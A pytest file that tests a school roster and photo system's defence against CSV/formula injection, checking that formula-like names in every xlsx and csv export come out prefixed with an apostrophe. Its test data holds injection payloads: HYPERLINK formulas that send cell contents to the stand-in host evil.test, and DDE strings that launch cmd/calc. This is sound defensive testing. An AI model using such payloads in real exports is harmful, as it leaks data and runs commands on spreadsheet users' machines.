"""Formula-like text stays inert in every export of every service (issue 7, part 8; OWASP "CSV injection"): a
school, college, class, class code and major named like a formula go in through the HTTP API, reach the other
services through their events, and come out of each spreadsheet download (xlsx or csv) prefixed with an apostrophe,
never as a formula. A student name like a formula is refused at the door. One rule does it, services/kernel/inert.py.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from services.gateway.app import create_gateway
from services.kernel.inert import inert, inert_text
from tests.capture.support import demo_stations, jpeg
from tests.conftest import embedded_settings
from tests.scheduling.helpers import publish_day
from tests.support.api import Api, wait_until
from tests.support.rosters import HEADERS, student_row

SCHOOL = '=HYPERLINK("http://evil.test/?x="&A1,"南昌大学")'
COLLEGE = '=HYPERLINK("http://evil.test/?x="&A1,"点我")'
CLASS_NAME = "＠SUM(1,2)*cmd|' /C calc'!A0"  # full-width @: some spreadsheet programs run it too
CLASS_CODE = "－2+3+cmd|' /C calc'!A0"  # full-width minus
MAJOR = "＋SUM(1,2)"  # full-width: some spreadsheet programs take it for a formula too
MAJOR_STORED = "+SUM(1,2)"  # roster keeps the half-width form (NFKC), as it does for every field
# Texts a spreadsheet program would run: a formula cell, or text starting like one (behind blanks, too).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"[+\-]?[\d\s.,]+")
CAPTURE = "/api/capture/v1"
TERM = "2026-06"
S, T = "2023090101", "2023090102"  # two approved students of XG2301: S confirms the photo, T does not


def test_the_rule_prefixes_every_formula_and_leaves_data_alone() -> None:
    for text in (COLLEGE, CLASS_NAME, CLASS_CODE, MAJOR, "@SUM(1,2)", "+SUM(1,2)", "\t=1+1", "\r=1+1", "\n=1+1",
                 "＝1+1", "－1+cmd|x", "＠SUM(1)", " =1+1", "\u3000=1+1", "-", "=", "+cmd|' /C calc'!A0"):
        assert inert_text(text) == "'" + text, text
    for text in ("王明", "计算机科学与技术", "-5", "+86 138 0000 0000", "3.5", "'=1", "", '="36010220000101001X"',
                 "a=1", "10403"):
        assert inert_text(text) == text, text
    assert inert_text("\x00=1+1\x07") == "'=1+1"  # a control character hides no trigger and cannot break an xlsx
    assert (inert(5), inert(None), inert(2.5)) == (5, None, 2.5)


# ------------------------------------------------------------------------------------------------------ the scene


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    """The embedded system without the face mix-up guard (the test portraits show few people; see
    tests/capture/test_delivery.py), its school, one college, one class and a major renamed like formulas."""
    settings = embedded_settings(tmp_path_factory.mktemp("inert"), capture_identity_guard=False)
    with TestClient(create_gateway(settings), raise_server_exceptions=False) as client:
        yield _rename_like_formulas(Api(client))


def _student(api: Api, student_no: str) -> dict[str, Any]:
    [row] = api.get("/api/roster/v1/students", "school10403", params={"q": student_no}).json()["items"]
    return dict(api.get(f"/api/roster/v1/students/{row['id']}", "school10403").json())


def _patch(api: Api, path: str, body: dict[str, Any]) -> dict[str, Any]:
    response = api.client.patch(f"/api/roster/v1{path}", headers=api.as_user("school10403"), json=body)
    assert response.status_code == 200, response.text
    return dict(response.json())


def _rename_like_formulas(api: Api) -> Api:
    student = _student(api, S)
    _patch(api, "/schools/10403", {"name": SCHOOL})
    _patch(api, f"/colleges/{student['college_id']}", {"name": COLLEGE})
    _patch(api, f"/classes/{student['class_id']}", {"name": CLASS_NAME, "code": CLASS_CODE})
    for no in (S, T):
        _patch(api, f"/students/{_student(api, no)['id']}", {"changes": {"major_name": MAJOR}})
    # The renames reach scheduling, capture and payments through roster's events.
    wait_until(lambda: any(c["name"] == CLASS_NAME for c in
                           api.get("/api/scheduling/v1/classes", "school10403").json()["items"]))
    wait_until(lambda: any(s["class_no"] == CLASS_CODE and s["college_name"] == COLLEGE for s in
                           api.get(f"{CAPTURE}/subjects", "photographer").json()["items"]))
    wait_until(lambda: any(p["class_no"] == CLASS_CODE for p in
                           api.get("/api/payments/v1/payers", "school10403").json()["items"]))
    return api


def _class_id(api: Api) -> str:
    return str(_student(api, S)["class_id"])


# ------------------------------------------------------------------------------------------------------ the checks


def _live(text: str) -> bool:
    bare = text.lstrip(" \u00a0\u3000")
    return bare.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(bare)


def _xlsx_cells(data: bytes) -> list[str]:
    """Every text cell of a workbook; fails on a formula cell or text a spreadsheet would run."""
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not _live(cell.value), f"{sheet.title}!{cell.coordinate} = {cell.value!r}"
                    texts.append(cell.value)
    return texts


def _csv_cells(data: bytes) -> list[str]:
    """Every cell of a CSV file (UTF-8 with BOM); fails on text a spreadsheet would run."""
    assert data.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    for cell in cells:
        assert not _live(cell), cell
    return cells


def _download(api: Api, path: str, user: str = "school10403", **params: Any) -> bytes:
    response = api.get(path, user, params=params)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["cache-control"] == "no-store"  # personal data: never kept by a browser or proxy
    return response.content


# ------------------------------------------------------------------------------------------------------ roster


def test_a_student_name_like_a_formula_is_refused(api: Api) -> None:
    student = _student(api, S)
    for name in ("=HYPERLINK(\"http://evil.test\")", "@SUM(1,2)", "+cmd|x", "＝王明"):
        response = api.client.patch(f"/api/roster/v1/students/{student['id']}", headers=api.as_user("school10403"),
                                    json={"changes": {"name": name}})
        assert response.status_code == 422 and response.json()["code"] == "name_invalid", response.text
    assert _student(api, S)["name"] == student["name"]


def test_roster_class_lists(api: Api) -> None:
    data = _download(api, "/api/roster/v1/class-lists.xlsx", class_id=_class_id(api))
    cells = _xlsx_cells(data)
    assert "'" + MAJOR_STORED in cells
    assert any(c.startswith(f"'{SCHOOL} {COLLEGE} {CLASS_NAME}") for c in cells)  # the title


def test_roster_reviewed_list(api: Api) -> None:
    cells = _xlsx_cells(_download(api, "/api/roster/v1/reviewed-list.xlsx", term=TERM))
    assert {"'" + COLLEGE, "'" + MAJOR_STORED, "'" + CLASS_CODE} <= set(cells)
    assert any(c.startswith("'" + SCHOOL) for c in cells)  # the title


def test_roster_annotated_import(api: Api) -> None:
    rows = [student_row(n, klass=CLASS_CODE, college=COLLEGE) for n in range(1, 4)]
    rows[0][HEADERS.index("专业名称")] = MAJOR
    rows[1][HEADERS.index("专业名称")] = "@SUM(1,2)"
    rows[2][HEADERS.index("身份证号")] = "=1+1"  # an error: the annotated workbook marks this cell
    text = io.StringIO()
    csv.writer(text).writerows([HEADERS, *rows])
    upload = api.post("/api/roster/v1/imports", "school10403",
                      files={"file": ("花名册.csv", ("\ufeff" + text.getvalue()).encode(), "text/csv")})
    assert upload.status_code == 202, upload.text
    job = upload.json()["id"]
    wait_until(lambda: api.get(f"/api/roster/v1/imports/{job}", "school10403").json()["status"] != "validating")
    cells = _xlsx_cells(_download(api, f"/api/roster/v1/imports/{job}/annotated.xlsx"))
    assert {"'" + COLLEGE, "'" + MAJOR, "'@SUM(1,2)", "'" + CLASS_CODE, "'=1+1"} <= set(cells)  # as typed


# ------------------------------------------------------------------------------------------------------ scheduling


@pytest.mark.parametrize("by", ["room", "college", "school"])
def test_scheduling_timetable(api: Api, by: str, published: dict[str, Any]) -> None:
    cells = _xlsx_cells(_download(api, f"/api/scheduling/v1/capture-days/{published['id']}/timetable.xlsx", by=by))
    assert {"'" + COLLEGE, "'" + CLASS_NAME} <= set(cells)
    assert any(c.startswith("'" + SCHOOL) for c in cells)  # the title: school name first


@pytest.fixture(scope="module")
def published(api: Api) -> dict[str, Any]:
    day, _ = publish_day(api)
    return day


# ------------------------------------------------------------------------------------------------------ capture


@pytest.fixture(scope="module")
def photographed(api: Api) -> None:
    """S and T photographed at the demo station; S confirms on the phone, T has yet to proofread."""
    station = str(demo_stations(api)[0]["id"])
    for n, no in enumerate((S, T)):
        student = _student(api, no)
        token = api.get(f"/api/roster/v1/students/{student['id']}/pass", "school10403").json()["token"]
        checkin = wait_until(lambda t=token: (r := api.post(f"{CAPTURE}/checkins", "photographer", json={
            "station": station, "pass": t})).status_code == 201 and r.json())
        photo = api.post(f"{CAPTURE}/checkins/{checkin['id']}/photos", "photographer",
                         files={"file": ("a.jpg", jpeg(300 + n), "image/jpeg")})
        assert photo.status_code == 201 and photo.json()["accepted"], photo.text
        assert api.post(f"{CAPTURE}/checkins/{checkin['id']}/close", "photographer", json={}).status_code == 200
    signed_in = api.client.post("/api/roster/v1/auth/student-token", json={
        "school_code": "10403", "student_no": S, "secret": _student(api, S)["id_number"][-6:]})
    assert signed_in.status_code == 200, signed_in.text
    confirmed = api.client.post(f"{CAPTURE}/proofreading/me/confirm",
                                headers={"Authorization": f"Bearer {signed_in.json()['access_token']}"})
    assert confirmed.status_code == 200 and confirmed.json()["state"] == "confirmed", confirmed.text


def test_capture_proofreading_reminders(api: Api, photographed: None) -> None:
    cells = _csv_cells(_download(api, f"{CAPTURE}/proofreading/reminders.csv", school_code="10403"))
    assert {"'" + COLLEGE, "'" + CLASS_NAME} <= set(cells)


@pytest.mark.parametrize("entry", ["索引.csv", "索引.xlsx"], ids=["csv", "xlsx"])
def test_capture_delivery_index(api: Api, photographed: None, entry: str) -> None:
    archive = _delivery(api)
    data = archive.read(entry)
    cells = _csv_cells(data) if entry.endswith(".csv") else _xlsx_cells(data)
    assert "'" + COLLEGE in cells and f"'{CLASS_CODE} {CLASS_NAME}" in cells


_packages: dict[int, zipfile.ZipFile] = {}


def _delivery(api: Api) -> zipfile.ZipFile:
    if id(api) not in _packages:
        requested = api.post(f"{CAPTURE}/deliveries", "school10403", json={"school_code": "10403", "term": TERM})
        assert requested.status_code in {201, 202}, requested.text
        package = requested.json()["id"]
        done = wait_until(lambda: (d := api.get(f"{CAPTURE}/deliveries/{package}", "school10403").json())[
            "status"] in ("ready", "failed") and d, timeout=30)
        assert done["status"] == "ready", done
        link = api.get(f"{CAPTURE}/deliveries/{package}/download", "school10403").json()
        _packages[id(api)] = zipfile.ZipFile(io.BytesIO(api.client.get(link["url"]).content))
    return _packages[id(api)]


# ------------------------------------------------------------------------------------------------------ payments


@pytest.mark.parametrize(("report", "fmt"), [("classes", "csv"), ("classes", "xlsx"), ("schools", "csv"),
                                             ("schools", "xlsx")])
def test_payments_reports(api: Api, report: str, fmt: str) -> None:
    data = _download(api, f"/api/payments/v1/reports/{report}/export", format=fmt)
    cells = _csv_cells(data) if fmt == "csv" else _xlsx_cells(data)
    assert "10403" in cells
    if report == "classes":
        assert {"'" + CLASS_CODE, "'" + CLASS_NAME} <= set(cells)
